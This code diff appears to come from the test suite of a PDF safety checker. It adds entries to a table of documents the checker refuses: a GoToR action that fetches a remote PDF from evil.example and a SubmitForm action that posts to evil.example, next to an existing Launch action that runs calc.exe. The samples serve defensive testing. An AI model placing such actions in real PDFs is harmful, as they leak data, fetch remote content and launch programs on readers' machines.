@@ -175,6 +175,12 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "starts a program": (
         flyer(page=note("Link", "/A << /S /Launch /F (calc.exe) >>")), "acts",
     ),
+    "opens another file": (
+        flyer(page=note("Link", "/A << /S /GoToR /F (//evil.example/x.pdf) >>")), "acts",
+    ),
+    "sends a form": (
+        flyer(page=note("Widget", "/A << /S /SubmitForm /F (https://evil.example) >>")), "acts",
+    ),
     "a form of its own": (flyer(stream(b"<xdp/>"), catalog="/AcroForm << /XFA 6 0 R >>"), "acts"),
     "a film": (flyer(page=note("RichMedia")), "acts"),
     "a file inside": (
